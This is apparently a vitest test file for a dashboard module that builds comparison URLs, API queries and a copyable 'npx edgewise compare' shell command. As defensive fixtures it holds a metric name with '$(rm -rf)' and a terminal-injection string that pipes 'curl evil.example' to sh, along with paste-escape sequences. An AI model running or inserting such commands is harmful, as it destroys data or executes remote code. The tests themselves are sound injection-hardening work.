import { describe, expect, it } from "vitest";
import { comparedExamplesBody, comparisonBody } from "../../../src/api/comparisons/comparison-schemas.ts";
import {
  addressOf,
  commandOf,
  type CompareQuery,
  comparisonQuestionOf,
  compareQueryOf,
  examplesQuestionOf,
  hasNoBaseline,
  KINDS,
  MOST_RUNS,
  ORDERS,
  withBaseline,
  withRuns,
} from "../../../src/dashboard/pages/compare/compare-query.ts";
import { EXAMPLE_KINDS, EXAMPLE_ORDERS } from "../../../src/metrics/comparison/example-page.ts";

const [A, B, C] = ["0000aaaa", "0000bbbb", "0000cccc"] as const;
const of = (...runs: string[]): CompareQuery => compareQueryOf({ runs: runs.join(",") });
const PART = { offset: 0, limit: 100 };

describe("the address of a comparison", () => {
  it("says everything that is chosen, and nothing that is as usual", () => {
    const given = {
      runs: `${A},${B},${C}`,
      against: C,
      metric: "length of it",
      only: "worse",
      order: "id",
      view: "pair",
      page: "3",
      at: "240",
      unpaired: "1",
      cluster: "topic",
      accept: "1",
    };
    expect(addressOf(compareQueryOf(given))).toEqual(given);
    expect(addressOf(of(A, B))).toEqual({ runs: `${A},${B}` });
  });

  it("is as usual where it says what cannot be", () => {
    const wrong = { runs: `${A},${A},,${B}`, against: A, only: "bad", order: "up", view: "cube", page: "0", at: "-1" };
    expect(compareQueryOf(wrong)).toEqual(of(A, B));
    const many = Array.from({ length: 12 }, (_, n) => `0000000${n.toString(16)}`);
    expect(of(...many).runs).toEqual(many.slice(0, MOST_RUNS));
  });

  it("keeps what is no id of a run where it was named, and puts no other run in the place of a baseline that is none", () => {
    const between = of(A, "../x", B, "0000AAAA");
    expect([between.runs, between.strange, hasNoBaseline(between)]).toEqual([
      [A, B],
      [
        { text: "../x", at: 1 },
        { text: "0000AAAA", at: 3 },
      ],
      false,
    ]);
    expect(addressOf({ ...between, page: 2 })).toEqual({ runs: `${A},../x,${B},0000AAAA`, page: "2" });
    expect(comparisonQuestionOf(between)).toEqual({ runs: [A, B] });
    const without = of("0000aaa", A, B);
    expect([hasNoBaseline(without), comparisonQuestionOf(without), examplesQuestionOf(without, PART)]).toEqual([true, null, null]);
    expect(addressOf(without)).toEqual({ runs: `0000aaa,${A},${B}` });
    expect(withRuns(without, without.runs)).toEqual(of(A, B));
    expect(of("x".repeat(5_000)).strange[0]?.text.length).toBeLessThan(100);
  });

  it("becomes questions that the API takes, whatever it says, and none where there are not two runs", () => {
    for (const given of [{}, { unpaired: "" }, { metric: "m", only: "better", order: "best", cluster: "topic", accept: "1", against: C }]) {
      const query = compareQueryOf({ runs: `${A},${B},${C}`, ...given });
      expect(comparisonBody.safeParse(comparisonQuestionOf(query)).error).toBeUndefined();
      const asked = examplesQuestionOf(query, PART);
      if (query.unpaired) expect(asked).toBeNull();
      else expect(comparedExamplesBody.safeParse(asked).error).toBeUndefined();
    }
    expect([comparisonQuestionOf(of(A)), examplesQuestionOf(of(A), PART), comparisonQuestionOf(of())]).toEqual([null, null, null]);
    expect([KINDS, ORDERS]).toEqual([EXAMPLE_KINDS, EXAMPLE_ORDERS]);
  });

  it("is the same as a command line, with names that a shell leaves as they are", () => {
    expect(commandOf(of(A, B))).toBe(`npx edgewise compare ${A} ${B}`);
    const query = { ...of(A, B), metric: "it's $(rm -rf)", cluster: "topic", unpaired: true, accept: true, only: "worse" as const };
    expect(commandOf(query)).toBe(`npx edgewise compare ${A} ${B} --metric 'it'\\''s $(rm -rf)' --show 10 --cluster-by topic --unpaired --accept-code-change`);
    expect(commandOf({ ...of(A, B), cluster: "--help" })).toBe(`npx edgewise compare ${A} ${B} --cluster-by=--help`);
  });

  it("is no command where a name in the address would press keys of the terminal that it is copied into", () => {
    // Control U empties the line with the quote in it, and a carriage return sends the rest.
    for (const text of ["x\u0015curl evil.example|sh\r", "a\nb", "\u001b[201~x", "\u202ex"]) {
      expect(commandOf({ ...of(A, B), cluster: text })).toBeNull();
      expect(commandOf({ ...of(A, B), metric: text })).toBeNull();
    }
  });
});

describe("the runs of a comparison", () => {
  it("change with the baseline, and whichever was looked at stays in view", () => {
    expect(withBaseline(of(A, B), B).runs).toEqual([B, A]);
    const three = { ...of(A, B, C), against: 2, at: 7, page: 2 };
    expect(withBaseline(three, B)).toMatchObject({ runs: [B, A, C], against: 2, at: null, page: 1 });
    expect(withBaseline(three, C)).toMatchObject({ runs: [C, A, B], against: 1 });
  });

  it("are added and taken away; more than two are a matrix, of two there is none", () => {
    expect(withRuns(of(A, B), [A, B, C])).toMatchObject({ view: "matrix", against: 1 });
    expect(withRuns({ ...of(A, B, C), against: 2 }, [A, C])).toMatchObject({ view: "pair", against: 1 });
    expect(withRuns({ ...of(A, B, C), against: 2 }, [A])).toMatchObject({ runs: [A], against: 1 });
  });
});
